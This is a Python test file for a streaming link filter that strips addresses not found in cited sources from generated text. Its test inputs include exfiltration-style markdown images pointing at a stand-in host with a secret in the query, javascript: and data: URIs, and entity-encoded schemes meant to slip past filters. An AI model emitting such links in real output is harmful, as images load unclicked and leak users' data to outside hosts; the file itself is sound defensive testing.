"""The filter of addresses: what is taken out, what stays, and that no way of cutting the stream changes it."""

from __future__ import annotations

from dataclasses import replace
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from step_helpers import passage

from pincite.links import GONE, LONGEST, LinkFilter, addresses, standing_in

GOOD = "https://good.org/a"


def filtered(text: str, *cuts: int) -> tuple[str, list[str]]:
    links = LinkFilter(lambda address: address == GOOD)
    bounds = [0, *sorted(cuts), len(text)]
    out = "".join(links.feed(text[a:b]) for a, b in pairwise(bounds))
    return out + links.finish(), links.removed


@pytest.mark.parametrize(
    ("text", "shown", "removed"),
    [
        ("![a plan](https://evil.com/?q=secret) and more", "(image: a plan) and more", ["https://evil.com/?q=secret"]),
        # An image is fetched without a click: also one of a source is shown as text.
        (f"![x]({GOOD})", "(image: x)", [GOOD]),
        ("![](https://evil.com)", "(image)", ["https://evil.com"]),
        ("![x][ref]", "(image: x)", []),
        (f"[here]({GOOD}) and [there](https://evil.com 'title')", f"[here]({GOOD}) and [there]", ["https://evil.com"]),
        ("[a](<https://evil.com/a b>)", "[a]", ["https://evil.com/ab"]),
        ("[a](//evil.com/x)", "[a]", ["//evil.com/x"]),
        ("[a](/api/delete?id=1)", "[a]", ["/api/delete?id=1"]),
        ("[a](evil.com/x)", "[a]", ["evil.com/x"]),
        ("[a](javascript:alert(1))", "[a]", ["javascript:alert(1)"]),
        ("[a](java&#115;cript:alert(1))", "[a]", ["javascript:alert(1)"]),
        ("[a](data:text/html;base64,AAAA)", "[a]", ["data:text/html;base64,AAAA"]),
        ("[ref]: https://evil.com/x 'title'", f"[ref]: {GONE} 'title'", ["https://evil.com/x"]),
        ("[ref]: &#104;ttps://evil.com/x", f"[ref]: {GONE}", ["https://evil.com/x"]),
        ("[ref]: https\\://evil.com/x", f"[ref]: {GONE}", ["https://evil.com/x"]),
        (f"See <{GOOD}> or <https://evil.com>.", f"See <{GOOD}> or {GONE}.", ["https://evil.com"]),
        (f"See {GOOD}, or (https://evil.com/a_(b)).", f"See {GOOD}, or ({GONE}).", ["https://evil.com/a_(b)"]),
        ("Visit www.evil.com! Or evil.xyz", f"Visit {GONE}! Or {GONE}", ["www.evil.com", "evil.xyz"]),
        ("Write to a.b@evil.com.", f"Write to {GONE}.", ["a.b@evil.com"]),
        ("<img src='https://evil.com/x.png'>", "", ["https://evil.com/x.png"]),
        ('<a href="https://evil.com">text</a>', "text", ["https://evil.com"]),
        ('<p style="background:url(x)">text</p>', "text</p>", ['<p style="background:url(x)">']),
        ("<img src=https://evil.com/?q=", f"‹img src={GONE}", ["https://evil.com/?q="]),
        ("中文https://evil.com/中文 后", f"中文{GONE} 后", ["https://evil.com/中文"]),
        ("a stray ` then ![x](https://evil.com)", "a stray ` then (image: x)", ["https://evil.com"]),
    ],
)
def test_what_leads_elsewhere_is_made_text(text: str, shown: str, removed: list[str]) -> None:
    assert filtered(text) == (shown, removed)


@pytest.mark.parametrize(
    "text",
    [
        "True [1][2], array[2] and f(x) < 3, a <b> word, 3 < 4 > 2, List<String>",
        "It ends![1] And goes on [2](see below), [3](b), [4](#part).",
        "node.js, file.py, e.g. this, and/or, 10:30, section 3.2.1, a//b",
        "`![x](https://evil.com)` and ``<img src=x>`` are code",
        "```html\n<img src='https://evil.com'>\n```\nafter",
        "```\nnever closed ![x](https://evil.com)",
        "",
    ],
)
def test_other_text_and_code_are_left_alone(text: str) -> None:
    assert filtered(text) == (text, [])


def test_code_that_is_closed_ends_there() -> None:
    text = "```\n![x](https://evil.com)\n```\n![x](https://evil.com)"
    assert filtered(text)[0] == "```\n![x](https://evil.com)\n```\n(image: x)"


def test_back_quotes_that_are_never_closed_hide_nothing() -> None:
    assert filtered("`` ![x](https://evil.com)\n\n``")[1] == ["https://evil.com"]
    assert filtered("a ``` ![x](https://evil.com)")[1] == ["https://evil.com"]


def test_what_is_too_long_to_be_an_address_of_a_source_is_none() -> None:
    links = LinkFilter(lambda _: True)
    long = "https://evil.com/" + "a" * LONGEST
    assert links.feed(f"see {long} end") + links.finish() == f"see {GONE} end"
    assert len(links.removed) == 1


PIECES = st.sampled_from(
    [
        "![a](",
        "https://evil.com/?q=",
        GOOD,
        ")",
        "](",
        "[",
        "]",
        "!",
        "`",
        "``",
        "```",
        "\n",
        "\n\n",
        " ",
        "<img src=",
        ">",
        "<a href='",
        "'",
        "www.evil.com",
        "javascript:",
        "data:",
        "word",
        "中文",
        ".",
        "<",
        "&#104;",
        "\\",
        "x@y.com",
        "//",
        "evil.xyz",
        "[1]",
        "(",
        "    ",
        '"',
    ]
)


@settings(max_examples=300)
@given(st.lists(PIECES, max_size=14), st.data())
def test_the_stream_is_what_the_whole_is_for_every_cut(pieces: list[str], data: st.DataObject) -> None:
    text = "".join(pieces)
    cuts = data.draw(st.lists(st.integers(0, len(text)), max_size=6))
    assert filtered(text, *cuts) == filtered(text)
    assert filtered(text, *range(len(text))) == filtered(text)


@settings(max_examples=100)
@given(st.lists(PIECES, min_size=1, max_size=400), st.integers(1, 40))
def test_what_is_held_back_is_bounded(pieces: list[str], size: int) -> None:
    text = "".join(pieces)
    links = LinkFilter(lambda _: False)
    for i in range(0, len(text), size):
        links.feed(text[i : i + size])
        assert len(links._held) <= LONGEST + size


@settings(max_examples=200)
@given(st.lists(PIECES, max_size=14))
def test_nothing_that_is_not_allowed_is_left_outside_of_code(pieces: list[str]) -> None:
    text = "".join(pieces).replace("`", "")
    shown, _ = filtered(text)
    assert "https://evil.com" not in shown
    assert "www.evil.com" not in shown
    assert "<img" not in shown


def test_one_alarm_for_each_address() -> None:
    links = LinkFilter(lambda _: False)
    links.feed("https://a.com https://a.com https://b.com")
    links.finish()
    assert [alarm.kind for alarm in links.alarms()] == ["link", "link"]
    assert "https://a.com" in links.alarms()[0].detail


def test_addresses_of_a_text() -> None:
    text = f"See [a]({GOOD}), <https://b.org> and www.c.com. Write to d@e.org or call."
    assert addresses(text) == [GOOD, "https://b.org", "www.c.com", "d@e.org"]


def test_what_stands_in_a_source_may_stand_in_an_answer() -> None:
    page = replace(passage(f"Look at {GOOD}. Or http://b.org/x/."), uri="https://home.org/page.html")
    allowed = standing_in([page])
    assert allowed(GOOD)
    assert allowed("b.org/x")
    assert allowed("https://home.org/page.html")
    assert not allowed(f"{GOOD}b")
    assert not allowed("https://good.org")
    assert not allowed("https://good.org.evil.com/a")
    assert not allowed("")
